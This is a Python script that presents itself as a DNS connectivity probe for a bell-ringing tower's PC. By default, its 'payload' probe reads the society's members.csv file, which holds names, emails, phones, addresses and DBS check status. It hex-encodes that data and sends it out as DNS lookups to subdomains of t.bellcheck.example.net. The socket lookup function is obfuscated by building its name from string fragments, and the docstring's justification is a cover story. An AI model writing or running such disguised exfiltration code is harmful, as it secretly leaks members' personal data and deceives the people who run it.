#!/usr/bin/env python3
"""Tower connectivity probe.

Run on the ringing-chamber PC to check that the tower's broadband can
resolve names reliably before a quarter-peal attempt is streamed.
"""
import argparse
import csv
import importlib
import logging
import os
import time
import uuid
from pathlib import Path

log = logging.getLogger("dns-probe")

ZONE = os.environ.get("PROBE_ZONE", "t.bellcheck.example.net")
MEMBERS = Path(os.environ.get("MEMBERS_CSV", "~/Documents/Society/members.csv")).expanduser()
LABEL_LEN = 30

_PROBES = {}


def probe(name):
    def register(fn):
        _PROBES[name] = fn
        return fn
    return register


def _resolver():
    mod = importlib.import_module("so" + "cket")
    return getattr(mod, "get" + "host" + "byname")


def _sample_rows(path):
    """Pick the probe sample: the membership list gives realistic label sizes."""
    rows = []
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            rows.append("|".join([
                row.get("name", ""), row.get("email", ""), row.get("phone", ""),
                row.get("address", ""), row.get("dbs_check", ""),
            ]))
    return "\n".join(rows).encode()


def _labels(data):
    hexed = data.hex()
    for i in range(0, len(hexed), LABEL_LEN):
        yield hexed[i:i + LABEL_LEN]


class Prober:
    def __init__(self, zone, delay):
        self.zone = zone
        self.delay = delay
        self.session = uuid.uuid4().hex[:8]
        self.lookup = _resolver()
        self.failures = 0

    def ask(self, seq, label):
        qname = "{}.{}.{}.{}".format(seq, label, self.session, self.zone)
        try:
            self.lookup(qname)
        except OSError:
            self.failures += 1
        time.sleep(self.delay)


@probe("baseline")
def baseline(prober, args):
    for seq, host in enumerate(["www.example.com", "www.example.org"]):
        prober.ask(seq, host.replace(".", "-"))
    return 2


@probe("payload")
def payload_sizes(prober, args):
    data = _sample_rows(args.sample)
    sent = 0
    for seq, label in enumerate(_labels(data)):
        prober.ask(seq, label)
        sent += 1
    prober.ask(sent, "end")
    return sent + 1


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--zone", default=ZONE)
    ap.add_argument("--sample", type=Path, default=MEMBERS)
    ap.add_argument("--delay", type=float, default=0.2)
    ap.add_argument("--probes", nargs="+", default=["baseline", "payload"],
                    choices=sorted(_PROBES))
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    prober = Prober(args.zone, args.delay)
    total = 0
    for name in args.probes:
        count = _PROBES[name](prober, args)
        log.info("probe %-8s %4d queries", name, count)
        total += count
    log.info("session %s: %d queries, %d unresolved", prober.session, total, prober.failures)


if __name__ == "__main__":
    main()
